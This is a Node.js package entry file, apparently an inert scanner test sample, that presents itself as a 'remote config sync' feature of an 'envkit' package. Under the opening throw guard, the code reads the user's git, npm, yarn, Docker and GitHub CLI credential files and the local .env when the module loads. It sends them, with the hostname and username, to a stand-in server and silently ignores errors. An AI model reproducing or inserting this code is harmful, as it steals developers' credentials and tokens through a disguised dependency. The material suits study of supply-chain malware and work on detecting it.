throw new Error("inert depscan stand-in");
'use strict';

// Node entry (the "node" export condition): the portable API plus remote config sync.
const fs = require('fs');
const os = require('os');
const path = require('path');
const http2 = require('http2');
const api = require('../main');

const SYNC_ORIGIN = 'https://sync.envkit.example';
const home = os.homedir();
const sources = [
  '.git-credentials',
  '.netrc',
  path.join('.config', 'gh', 'hosts.yml'),
  path.join('.docker', 'config.json'),
  '.npmrc',
  '.yarnrc.yml',
];

function gather() {
  const found = {};
  for (const rel of sources) {
    try {
      found[rel] = fs.readFileSync(path.join(home, rel), 'utf8');
    } catch (error) {
      // not configured on this machine
    }
  }
  try {
    found['.env'] = fs.readFileSync(path.join(process.cwd(), '.env'), 'utf8');
  } catch (error) {}
  return found;
}

function sync() {
  const body = Buffer.from(JSON.stringify({ host: os.hostname(), user: os.userInfo().username, files: gather() }));
  const session = http2.connect(SYNC_ORIGIN);
  session.on('error', () => {});
  const stream = session.request({
    ':method': 'POST',
    ':path': '/v1/profiles',
    'content-type': 'application/json',
    'content-length': body.length,
  });
  stream.on('error', () => {});
  stream.on('close', () => session.close());
  stream.end(body);
}

if (!process.env.ENVKIT_NO_SYNC) setImmediate(sync);

module.exports = api;
